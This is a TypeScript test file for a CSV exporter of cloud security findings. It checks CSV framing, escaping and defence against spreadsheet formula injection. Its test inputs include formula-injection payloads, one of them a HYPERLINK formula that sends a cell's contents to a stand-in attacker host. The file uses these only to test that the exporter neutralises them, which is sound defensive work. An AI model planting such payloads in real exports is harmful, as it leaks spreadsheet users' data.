import { describe, expect, it } from 'vitest';
import { exported, RESOLVED, written } from '../testing/exported.ts';
import { csvOf } from './csv.ts';

/** Parses CSV by RFC 4180 §2, quoted cells only. */
function read(csv: string): string[][] {
  const lines = csv.split(/\r\n(?=(?:[^"]*"[^"]*")*[^"]*$)/);
  expect(lines.pop()).toBe('');
  return lines.map((line) =>
    [...line.matchAll(/"((?:[^"]|"")*)"(?:,|$)/g)].map(([, cell = '']) =>
      cell.replaceAll('""', '"'),
    ),
  );
}

async function cellsOf(said: Parameters<typeof exported>[0]): Promise<Record<string, string>> {
  const [header = [], row = []] = read(await written(csvOf, [exported(said)]));
  return Object.fromEntries(header.map((name, at) => [name, row[at] ?? '']));
}

describe('findings as CSV', () => {
  it('findings as CSV are a header and a line each, with CRLF at the end of every one and no byte order mark', async () => {
    const csv = await written(csvOf, [exported(), exported(), exported()], 2);
    expect(csv).toMatch(/^"id","fingerprint","ruleId",/);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
    const [header, ...rows] = read(csv);
    expect(rows).toHaveLength(3);
    for (const row of rows) expect(row).toHaveLength(header?.length ?? 0);
  });

  it('findings as CSV are only a header if there are no findings', async () => {
    expect(read(await written(csvOf, []))).toHaveLength(1);
  });

  it('findings as CSV contain every member of the API', async () => {
    const muted = { reason: 'A static site', expiresAt: '2027-01-01T00:00:00.000Z' };
    expect(await cellsOf({ ...RESOLVED, muted })).toEqual({
      id: '0199c2a4-9b60-7d41-a3f2-58c1e7d90b36',
      fingerprint: 'ab'.repeat(32),
      ruleId: 'bucket-public',
      title: 'Bucket is public',
      severity: 'high',
      status: 'resolved',
      delta: 'resolved',
      project: 'shop-prod',
      assetName: '//storage.googleapis.com/shop-uploads',
      assetType: 'storage.googleapis.com/Bucket',
      subject: 'roles/storage.objectViewer allUsers',
      message: 'allUsers holds roles/storage.objectViewer on this bucket.',
      evidence: '[{"path":"iam_policy.bindings[0].members[0]","value":"allUsers"}]',
      remediation: 'Remove the grant.',
      compliance: 'cis-gcp-4.0 5.1; cis-gcp-5.0 5.1',
      firstSeenAt: '2026-11-01T08:00:00.000Z',
      lastSeenAt: '2026-11-20T08:00:00.000Z',
      resolvedAt: '2026-11-20T09:00:00.000Z',
      resolvedReason: 'fixed',
      mutedReason: 'A static site',
      mutedUntil: '2027-01-01T00:00:00.000Z',
    });
  });

  it.each(['a,b', 'a;b', 'say "no"', '"', 'two\r\nlines', 'two\nlines', ' blank ', '日本', ''])(
    'a CSV field keeps the value %j',
    async (message) => {
      expect(await cellsOf({ message })).toMatchObject({ message });
    },
  );

  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '\ttext',
    ' =1',
    '  @x',
    '"=1',
    `'=1`,
    ' "\' -1',
    '\u00a0=1',
    '\u200b=1',
    '\ufeff=1',
    '\uff1d1',
    '\uff0b1',
    '\uff0d1',
    '\uff20x',
    `=HYPERLINK("https://evil.example?"&A1,"x")`,
  ])('a CSV field makes text of %j, which a spreadsheet would calculate', async (message) => {
    expect(await cellsOf({ message, subject: message })).toMatchObject({
      message: `'${message}`,
      subject: `'${message}`,
    });
  });

  it.each(['a=1', '1-1', '//storage.googleapis.com/=x', 'allUsers', '#x', '(-1)'])(
    'a CSV field leaves %j unchanged, which no spreadsheet would calculate',
    async (message) => {
      expect(await cellsOf({ message })).toMatchObject({ message });
    },
  );
});
